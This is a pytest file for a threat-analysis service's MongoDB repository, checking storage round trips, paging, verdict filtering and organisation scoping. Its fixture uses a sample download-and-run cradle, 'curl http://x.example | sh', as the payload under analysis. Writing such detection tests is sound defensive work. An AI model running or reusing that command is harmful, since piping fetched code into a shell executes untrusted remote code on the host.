"""The analysis repository on the real store (nx-27017): round trip, paging, tenant scoping."""

from __future__ import annotations

import time
from collections.abc import AsyncIterator, Iterator
from datetime import UTC, datetime, timedelta

import pytest
from pymongo import AsyncMongoClient

from rampart.lib.store import Document
from rampart_threat.analysis.domain import (
    Analysis,
    Extracted,
    FeedHit,
    Kind,
    Mode,
    Reason,
    Target,
    Verdict,
)
from rampart_threat.analysis.repository import MongoAnalysisRepository
from tests.servers import Running, started

pytestmark = pytest.mark.service

AT = datetime(2026, 1, 2, 3, 4, 5, 678000, tzinfo=UTC)


@pytest.fixture(scope="module")
def store_server() -> Iterator[Running]:
    with started("nx-27017") as server:
        yield server


@pytest.fixture
async def repository(store_server: Running) -> AsyncIterator[MongoAnalysisRepository]:
    client: AsyncMongoClient[Document] = AsyncMongoClient(
        f"mongodb://127.0.0.1:{store_server.port}/?directConnection=true", tz_aware=True
    )
    repository = MongoAnalysisRepository(client[f"threat_{time.monotonic_ns()}"])
    await repository.create_indexes()
    yield repository
    await client.close()


def analysis(analysis_id: str, org_id: str, minutes: int, verdict: Verdict = Verdict.BENIGN) -> Analysis:
    return Analysis(
        analysis_id=analysis_id,
        org_id=org_id,
        user_id="usr",
        target=Target(Kind.PAYLOAD, "payload", "curl http://x.example | sh", "curl http://x.example | sh"),
        mode=Mode.DEEP,
        risk_score=60,
        verdict=verdict,
        confidence=0.5,
        reasons=(Reason("yara:download_cradle", 60, "in payload", ("T1105",)),),
        recommended_actions=("block",),
        extracted=(Extracted("url", "http://x.example", "hxxp://x[.]example", "payload"),),
        feed_hits=(FeedHit("urlhaus", "domain", "x.example", "malware_download", AT, AT),),
        limits=("decoding stopped at depth 8",),
        metadata={"case": "1"},
        analyzed_at=AT + timedelta(minutes=minutes),
        duration_us=1234,
    )


async def test_an_analysis_round_trips_and_is_invisible_to_another_organisation(
    repository: MongoAnalysisRepository,
) -> None:
    stored = analysis("ana_1", "org_a", 0)
    await repository.add(stored)
    assert await repository.get("org_a", "ana_1") == stored
    assert await repository.get("org_b", "ana_1") is None


async def test_pages_are_newest_first_and_filtered_by_verdict(repository: MongoAnalysisRepository) -> None:
    for i in range(5):
        await repository.add(analysis(f"ana_{i}", "org_a", i, Verdict.MALICIOUS if i % 2 else Verdict.BENIGN))
    await repository.add(analysis("ana_x", "org_b", 9))
    first = await repository.list("org_a", 3, "", None)
    second = await repository.list("org_a", 3, first.next_page_token, None)
    assert [a.analysis_id for a in first.analyses + second.analyses] == [
        "ana_4",
        "ana_3",
        "ana_2",
        "ana_1",
        "ana_0",
    ]
    assert second.next_page_token == ""
    bad = await repository.list("org_a", 10, "", Verdict.MALICIOUS)
    assert [a.analysis_id for a in bad.analyses] == ["ana_3", "ana_1"]
